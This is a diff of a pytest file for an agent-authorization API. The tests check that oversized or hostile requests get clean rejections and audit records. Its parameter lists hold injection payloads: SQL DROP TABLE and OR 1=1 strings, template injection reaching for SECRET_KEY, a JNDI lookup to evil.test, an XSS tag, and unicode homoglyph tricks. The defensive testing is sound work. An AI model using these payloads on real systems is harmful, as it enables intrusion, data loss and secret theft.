@@ -1,4 +1,5 @@
 """Hostile input gets a clean 4xx, and an audit record where it touches a session."""
+
 from __future__ import annotations
 
 import json
@@ -20,7 +21,9 @@ def post_raw(token: str, path: str, body: bytes) -> object:
 
 def test_an_oversized_body_is_413(start) -> None:
     token = start()["token"]
-    response = post_raw(token, "/api/v1/authorize", json.dumps({"action": "x", "params": {"p": "a" * 2_000_000}}).encode())
+    response = post_raw(
+        token, "/api/v1/authorize", json.dumps({"action": "x", "params": {"p": "a" * 2_000_000}}).encode()
+    )
     assert response.status_code == 413 and response.json()["type"] == "urn:warden:problem:too-large"
 
 
@@ -39,28 +42,45 @@ def test_malformed_json_and_wrong_media_type(start) -> None:
     assert form.status_code == 415
 
 
-@pytest.mark.parametrize("action", [
-    "crm.get\u200bcustomer", "crm.get_customer\u0000", "ｃｒｍ.get_customer", "crm.get_cust\u043ember",
-    "CRM.GET_CUSTOMER", "../crm.get_customer", "crm.get_customer; DROP TABLE audit_auditevent",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "action",
+    [
+        "crm.get\u200bcustomer",
+        "crm.get_customer\u0000",
+        "ｃｒｍ.get_customer",
+        "crm.get_cust\u043ember",
+        "CRM.GET_CUSTOMER",
+        "../crm.get_customer",
+        "crm.get_customer; DROP TABLE audit_auditevent",
+    ],
+)
 def test_unicode_tricks_in_action_names_are_denied_and_audited(start, action) -> None:
     token = start()["token"]
-    response = bearer(APIClient(), token).post("/api/v1/authorize", {"action": action, "params": {"customer_id": "C-1001"}},
-                                               format="json")  # fmt: skip
+    response = bearer(APIClient(), token).post(
+        "/api/v1/authorize", {"action": action, "params": {"customer_id": "C-1001"}}, format="json"
+    )
     assert response.status_code in (200, 400)
     if response.status_code == 200:
         assert response.json()["decision"] == "deny"
         assert AuditEvent.objects.filter(kind="action.denied").count() == 1
 
 
-@pytest.mark.parametrize("value", [
-    "C-1001' OR '1'='1", "C-1001; DROP TABLE demo_systems_customer; --", "{{ settings.SECRET_KEY }}",
-    "{% debug %}", "${jndi:ldap://evil.test/a}", "<script>alert(1)</script>",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "value",
+    [
+        "C-1001' OR '1'='1",
+        "C-1001; DROP TABLE demo_systems_customer; --",
+        "{{ settings.SECRET_KEY }}",
+        "{% debug %}",
+        "${jndi:ldap://evil.test/a}",
+        "<script>alert(1)</script>",
+    ],
+)
 def test_injection_in_parameters_is_only_data(start, value) -> None:
     token = start()["token"]
-    response = bearer(APIClient(), token).post("/api/v1/authorize", {"action": "crm.get_customer",
-                                                                     "params": {"customer_id": value}}, format="json")
+    response = bearer(APIClient(), token).post(
+        "/api/v1/authorize", {"action": "crm.get_customer", "params": {"customer_id": value}}, format="json"
+    )
     assert response.status_code == 200 and response.json()["decision"] == "deny"  # fails the schema's pattern
     assert Customer.objects.count() == 3
     event = AuditEvent.objects.get(kind="action.denied")
@@ -82,11 +102,17 @@ def test_expired_and_revoked_tokens_are_401_and_audited(start) -> None:
 
     started = start()
     SessionToken.objects.filter(session_id=started["session_id"]).update(expires_at=timezone.now() - timedelta(1))
-    assert bearer(APIClient(), started["token"]).post("/api/v1/authorize", {"action": "x", "params": {}},
-                                                      format="json").status_code == 401  # fmt: skip
+    assert (
+        bearer(APIClient(), started["token"])
+        .post("/api/v1/authorize", {"action": "x", "params": {}}, format="json")
+        .status_code
+        == 401
+    )
     other = start()
     sessions.terminate(AgentSession.objects.get(pk=other["session_id"]), reason="test", actor="user:bob")
-    revoked = bearer(APIClient(), other["token"]).post("/api/v1/authorize", {"action": "x", "params": {}}, format="json")
+    revoked = bearer(APIClient(), other["token"]).post(
+        "/api/v1/authorize", {"action": "x", "params": {}}, format="json"
+    )
     assert revoked.status_code == 401 and "revoked" in revoked.json()["detail"]
     assert AuditEvent.objects.filter(kind="alert.raised").exists()  # a revoked token used again is an alert
 
